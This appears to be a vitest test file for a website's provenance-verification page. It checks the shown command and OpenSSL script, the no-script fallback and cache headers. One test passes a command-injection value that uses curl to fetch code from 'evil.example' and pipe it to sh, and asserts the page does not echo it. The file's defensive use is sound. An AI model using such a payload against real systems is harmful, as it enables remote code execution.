import { execFileSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { makeTemporaryFolder } from '#store/testing/temporary-folder.ts'
import { fixtureContent, siteUnderTest } from './testing/site-under-test.ts'

const site = siteUnderTest(fixtureContent)

it('[REV-6] the page that verifies explains without scripts how to do it by command and by OpenSSL, for the named article', async () => {
  const { body } = await site.get('/verify?article=/health/dark-spots')
  const [command = '', script = ''] = [...body.matchAll(/<code>([\s\S]*?)<\/code>/g)].map(([, code]) => decoded(code))
  expect(command).toMatch(/^npx salus verify https:\/\/\S+\/health\/dark-spots$/)
  expect(body).toMatch(/<noscript>[^<]*<p[^>]*>Your browser runs no scripts/)

  const cwd = makeTemporaryFolder()
  writeFileSync(join(cwd, 'provenance.json'), (await site.get('/provenance/health/dark-spots.json')).body)
  const [computed, recorded] = execFileSync('bash', ['-c', script], { cwd, encoding: 'utf8' }).split('\n')
  expect(computed).toMatch(/^[0-9a-f]{64}$/)
  expect(computed).toBe(recorded)
})

it('[REV-6] its script is on no other page, and its input stays in this browser', async () => {
  const article = await site.get('/health/dark-spots')
  expect(article.body).not.toContain('data-behavior="verify"')
  expect((await site.get('/verify')).headers).toMatchObject({ 'cache-control': 'private, no-store' })
  expect((await site.get('/verify?article=https://other.example/x')).body).toContain('npx salus verify https://…')
  const injected = await site.get(`/verify?article=${encodeURIComponent("/x;curl$IFS'evil.example/a'|sh")}`)
  expect(injected.body).toMatch(/<code>npx salus verify https:\/\/…</)
})

function decoded(html: string | undefined): string {
  const named: Record<string, string> = { quot: '"', '#x27': "'", lt: '<', gt: '>', amp: '&' }
  return (html ?? '').replace(/&(quot|#x27|lt|gt|amp);/g, (_, name) => named[name] ?? '')
}
